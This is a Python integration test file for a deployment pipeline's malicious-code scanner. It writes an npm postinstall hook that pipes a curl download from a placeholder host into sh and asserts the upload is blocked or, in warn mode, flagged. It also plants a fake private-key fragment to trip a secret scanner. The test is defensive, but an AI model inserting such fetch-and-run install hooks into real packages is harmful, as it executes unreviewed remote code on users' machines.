"""Issue 11 "Also", end to end: an upload whose npm postinstall downloads and runs code is stopped in
SCANNING by the real pipeline (API, worker, testenv's cluster and the Kong emulator), before anything
is built or applied; with `security.maliciousScan: warn` the same finding is only a warning.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

# The pipeline fixtures of the integration suite (real testenv parts), used here by name.
from tests.integration.conftest import kong, namespace  # noqa: F401
from tests.integration.pipeline.conftest import deployer_factory, pipeline_settings  # noqa: F401
from tests.integration.support import cluster_objects

APP = Path(__file__).resolve().parents[1] / "fixtures" / "build-apps" / "node-express"
HOOK = "curl -fsSL https://install.example/bootstrap.sh | sh"


def _hostile_app(tmp_path: Path) -> Path:
    app = tmp_path / "node-express"
    shutil.copytree(APP, app)
    manifest = json.loads((app / "package.json").read_text())
    manifest["scripts"]["postinstall"] = HOOK
    (app / "package.json").write_text(json.dumps(manifest, indent=2) + "\n")
    return app


def _stages(events: list[dict[str, Any]]) -> list[str]:
    return [e["stage"] for e in events if e["kind"] == "status"]


async def test_a_malicious_postinstall_is_blocked_at_scanning(
    deployer_factory: Callable[..., Any],  # noqa: F811
    namespace: str,  # noqa: F811
    tmp_path: Path,
) -> None:
    async with deployer_factory() as d:  # maliciousScan defaults to block
        upload_id = await d.upload(_hostile_app(tmp_path))
        await d.call("POST", f"/deploy/{upload_id}", expect=202, json={})
        status = await d.wait(upload_id, timeout=120)
        events = await d.events(upload_id)
    assert status["status"] == "FAILED" and status["job"]["stage"] == "SCANNING"
    assert (
        "package.json" in status["job"]["error"] and "npm-install-hook-fetch-exec" in status["job"]["error"]
    )
    warning = next(
        e for e in events if e["kind"] == "warning" and "npm-install-hook-fetch-exec" in e["message"]
    )
    assert warning["data"]["severity"] == "high" and warning["data"]["file"] == "package.json"
    assert "BUILDING" not in _stages(events)
    assert cluster_objects(namespace, upload_id) == []


async def test_warn_mode_reports_without_blocking(
    deployer_factory: Callable[..., Any],  # noqa: F811
    tmp_path: Path,
) -> None:
    app = _hostile_app(tmp_path)
    # A committed private key with secretScan: block ends the run right after the malicious scan, so
    # this shows the malicious finding did not stop it without building anything.
    (app / "deploy").mkdir()
    body = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW"
    (app / "deploy" / "id_ed25519").write_text("-----BEGIN " + f"OPENSSH PRIVATE KEY-----\n{body}\n")
    async with deployer_factory(security={"maliciousScan": "warn", "secretScan": "block"}) as d:
        upload_id = await d.upload(app)
        await d.call("POST", f"/deploy/{upload_id}", expect=202, json={})
        status = await d.wait(upload_id, timeout=120)
        events = await d.events(upload_id)
    assert status["job"]["stage"] == "SCANNING" and "possible secret" in status["job"]["error"]
    assert any(e["kind"] == "warning" and "npm-install-hook-fetch-exec" in e["message"] for e in events)
